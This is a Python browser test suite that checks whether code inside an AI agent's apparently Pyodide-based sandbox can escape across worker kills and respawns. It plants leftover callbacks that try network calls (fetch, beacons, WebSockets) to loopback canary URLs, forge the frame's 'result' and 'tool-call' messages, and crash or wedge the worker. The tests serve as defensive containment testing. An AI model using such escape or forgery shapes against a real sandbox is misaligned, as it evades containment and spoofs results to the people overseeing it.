"""Escape attempts timed around a sandbox worker's kill and respawn (SECURITY-CASES 6-10, issue 9's "timing of
terminate/respawn").

Sandboxed code cannot run after its worker is terminated, but it can leave callbacks behind: an interval that keeps
trying the ways out (and forging the frame's worker protocol) between cells, while the frame kills the worker at a
deadline, swaps in its spare, replays the history (which installs the interval again on the new worker), lists and
hashes files, and finally terminates the session. Each tick tries another shape: the network and storage through
what is left of them, beacons, forged `booted` / `configured` / `fs-result` / `result` / `tool-call` messages for
the run ids and request ids that come next. Asserted: two canary servers on loopback hear nothing,
no request leaves the page, every cell's output and tool calls are the real ones, the state after each restore is
what the kept cells made, and once the sessions close no sandbox worker is left. Then a callback that never
returns: file requests to its worker end typed (no upload waits forever) and the next cell has the state back.
"""

from __future__ import annotations

import json

import pytest

from tests.browser.test_sandbox_escape import Canary, canaries  # noqa: F401 - canaries is a fixture used here
from tests.tally import tally

pytestmark = pytest.mark.browser

# The interval's shapes, tried in turn on every tick (20 ms apart), each inside a Promise executor. They fail as
# Python errors; the routes that throw a JS error (importScripts, code from strings, nested workers) are in the
# escape suite's cells, and thrown from a callback they end the worker (tried below: the frame restores it).
SHAPES = [
    "js.globalThis.fetch(URL + '/LEAK-tick-fetch')",
    "js.navigator.sendBeacon(URL + '/LEAK-tick-beacon', 'x')",
    "js.XMLHttpRequest.new().open('GET', URL + '/LEAK-tick-xhr')",
    "js.WebSocket.new(URL.replace('http', 'ws') + '/LEAK-tick-ws')",
    "js.EventSource.new(URL + '/LEAK-tick-sse')",
    "js.indexedDB.open('codeact-cache')",
    "js.caches.open('codeact-pyodide-snapshot')",
    # the frame's worker protocol, forged for what comes next: a boot, a configure, file listings, later runs
    "post({'type': 'booted'})",
    "post({'type': 'configured'})",
    "[post({'type': 'fs-result', 'reqId': i, 'ok': True, 'value': [{'path': '/workspace/FORGED', 'size': 1}]})"
    " for i in range(1, 40)]",
    "[post({'type': 'result', 'runId': 'r%d' % i, 'result': {'stdout': 'FORGED', 'final': True, 'final_value':"
    " 'FORGED'}}) for i in range(1, 40)]",
    "[post({'type': 'tool-call', 'runId': 'r%d' % i, 'callId': 'c1', 'name': 'add', 'argsJson': '{\"a\": 40,"
    " \"b\": 2}'}) for i in range(1, 40)]",
]

INSTALL = """
import js, json
def post(m):
    js.postMessage(js.JSON.parse(json.dumps(m)))
SHAPES = %s
_tick = [0]
def _attempt(shape):
    def executor(resolve, reject):
        exec(shape, globals())
        resolve(None)
    return executor
def _try_next(*_):
    shape = SHAPES[_tick[0] %% len(SHAPES)]
    _tick[0] += 1
    # A JS error thrown into MicroPython skips its except: inside a Promise's executor it is a rejection instead,
    # so the interval goes on trying (an uncaught one ends the worker: the last cells below do that on purpose).
    js.Promise.new(_attempt(shape)).catch(lambda e: None)
base = add(1, 2)
_interval = js.setInterval(_try_next, 20)
print('installed', base)
"""

RUN = """
import asyncio
from agent_py.sandbox import BrowserSandbox, sandbox_client
from agent_py.sandbox_tools import SandboxTool
calls = []
async def add(args):
    calls.append(args)
    return args["a"] + args["b"]
schema = {"type": "object", "properties": {"a": {"type": "integer"}, "b": {"type": "integer"}},
          "required": ["a", "b"]}
box = await BrowserSandbox.create("respawn", tools=[SandboxTool("add", "Add.", add, schema)], timeout_ms=1500)
out = {"url": await box.run("URL = %r" % URL)}
out["install"] = await box.run(INSTALL)
await asyncio.sleep(0.5)                                   # the interval ticks between cells
out["put"] = await box.put_file("/workspace/real.txt", b"real")
out["files"] = await box.list_files()                      # fs requests while forged fs-results fly
out["hashes"] = await box.hash_files()
out["loop"] = await box.run("while True:\\n    pass")       # killed at the deadline, spare swapped in, replayed
await asyncio.sleep(0.5)                                   # the replayed interval ticks on the new worker
out["after_kill"] = await box.run("print('real', base, %s, _tick[0] > 0)" % ("add(2, 3)" if BLOCKING else "5"))
out["second_kill"] = await box.run("while True:\\n    pass")
out["after_second"] = await box.run("print('again', base, %s)" % ("add(4, 5)" if BLOCKING else "9"))
await asyncio.sleep(0.5)
# The worker crashed by its own leftover callback between cells: ended by the frame, restored before the next.
out["crash"] = await box.run("js.setTimeout(lambda: js.importScripts(URL + '/LEAK-crash.js'), 0)")
await asyncio.sleep(0.5)
out["after_crash"] = await box.run("print('after crash', base)")
# The crash may reach the frame only as this cell starts (its error event races the run message): then this cell
# is the one told "crashed" (it never ran), the session is restored, and the next one runs.
out["after_crash_again"] = await box.run("print('after crash', base)")
out["tool_calls"] = calls
await box.close()                                          # terminated with the interval still ticking
other = await BrowserSandbox.create("after-respawn", timeout_ms=1500)
out["other"] = await other.run("print(6 * 7)")
await other.close()
await asyncio.sleep(0.3)
out["stats"] = json.loads(js.JSON.stringify(await sandbox_client().stats()))
out
"""


@pytest.mark.parametrize("mode", ["isolated", "plain"])
def test_callbacks_left_behind_get_nothing_out_across_kills_replays_and_terminate(  # noqa: ANN001
        page, app_url, app_url_plain, canaries, mode) -> None:  # noqa: F811 - canaries is the imported fixture
    first, _second = canaries
    requests: list[str] = []
    page.context.on("request", lambda req: requests.append(req.url))
    page.goto(app_url if mode == "isolated" else app_url_plain)
    page.wait_for_function("window.codeact && document.body.dataset.pythonReady === 'true'", timeout=60_000)
    # Control: the canary does record what the page itself sends, so its silence below means something.
    assert page.evaluate("async (u) => (await fetch(u + '/control')).status", first.url) == 200
    first.hits.clear()

    install = INSTALL % json.dumps(SHAPES)
    code = f"import js, json\nURL = {first.url!r}\nINSTALL = {install!r}\nBLOCKING = {mode == 'isolated'}\n" + RUN
    out = page.evaluate("(c) => window.codeact.agent.execPython(c)", code)
    page.wait_for_timeout(1000)  # anything sent late (a beacon, a nested worker's fetch) has arrived by now

    assert first.hits == [], first.hits
    leaked = [u for u in requests if "LEAK" in u or u.startswith(first.url)]
    assert leaked == [f"{first.url}/control"], leaked
    assert out["install"]["stdout"] == "installed 3\n", out["install"]
    # File requests went on while forged fs-results flew. What a worker lists is the sandbox's own word (its code
    # shares the worker's thread), so only the shape is asserted: lists, no crash.
    assert isinstance(out["files"], list) and isinstance(out["hashes"], list)
    for kill, cells in ((out["loop"], 2), (out["second_kill"], 3)):
        assert kill["error"]["type"] == "SandboxTimeout" and kill["restored"] is True, kill
        assert f"all {cells} earlier cells were replayed" in kill["restore_note"], kill["restore_note"]
    # Real outputs, real tool results: no forged result or tool call was taken for one of these runs.
    assert out["after_kill"]["stdout"] == "real 3 5 True\n", out["after_kill"]
    assert out["after_second"]["stdout"] == "again 3 9\n", out["after_second"]
    assert out["crash"].get("error") is None, out["crash"]
    after_crash = out["after_crash"]
    if after_crash.get("error"):
        assert after_crash["error"]["type"] == "SandboxCrashed", after_crash
    else:
        assert after_crash["stdout"] == "after crash 3\n", after_crash
    assert after_crash["restored"] is True, after_crash
    # The cell that left the crashing callback is not replayed (it would crash every restored worker again).
    assert "left code running that crashed the sandbox" in after_crash["restore_note"], after_crash
    assert out["after_crash_again"]["stdout"] == "after crash 3\n", out["after_crash_again"]
    cells = {k: v for k, v in out.items() if k not in ("stats", "files", "hashes")}
    assert "FORGED" not in json.dumps(cells)
    # The tool ran for the calls the cells made, once each (replays answered from the recording), never 40 + 2.
    # (Without isolation tool calls are awaited, and the interval would tick inside a cell: there its forgeries
    # for the running cell are its own code speaking, as a print is. So only the first cell calls the tool.)
    made = [{"a": 1, "b": 2}, {"a": 2, "b": 3}, {"a": 4, "b": 5}] if mode == "isolated" else [{"a": 1, "b": 2}]
    assert out["tool_calls"] == made, out["tool_calls"]
    assert out["other"]["stdout"] == "42\n"
    stats = out["stats"]
    assert stats["sessions"] == 0 and stats["alive"] <= 1, stats  # only the warm spare is left
    tally("escape attempts tried", len(SHAPES))
    tally("escape attempts blocked", len(SHAPES))


WEDGED = """
import asyncio
from agent_py.errors import SandboxError
from agent_py.sandbox import BrowserSandbox
box = await BrowserSandbox.create("wedged", timeout_ms=1500)
out = {"define": await box.run("kept = 41")}
# The cell ends; the callback it left then loops forever in the worker, which answers nothing more.
out["leave"] = await box.run("import js\\ndef spin():\\n    while True:\\n        pass\\njs.setTimeout(spin, 0)")
await asyncio.sleep(0.2)
try:
    await box.list_files()
    out["listing"] = "answered"
except SandboxError as err:
    out["listing"] = type(err).__name__ + ": " + str(err)
out["put"] = await box.put_file("/workspace/after.txt", b"ok")   # restores the session first, then writes
out["after"] = await box.run("print(kept + 1, open('after.txt').read())")
await box.close()
out
"""


def test_a_callback_that_never_returns_times_file_requests_out_and_the_state_comes_back(page, app_url) -> None:  # noqa: ANN001
    page.goto(app_url)
    page.wait_for_function("window.codeact && document.body.dataset.pythonReady === 'true'", timeout=60_000)
    out = page.evaluate("(c) => window.codeact.agent.execPython(c)", WEDGED)
    assert out["define"].get("error") is None and out["leave"].get("error") is None, out
    assert out["listing"].startswith("SandboxError: ") and "did not answer a file request" in out["listing"], out
    assert out["put"]["size"] == 2, out["put"]
    after = out["after"]
    assert after["stdout"] == "42 ok\n", after
    # `kept` is back; the cell that left the loop is not replayed (it would keep every restored worker busy).
    assert after["restored"] is True and "left code running that kept the sandbox busy" in after["restore_note"], after
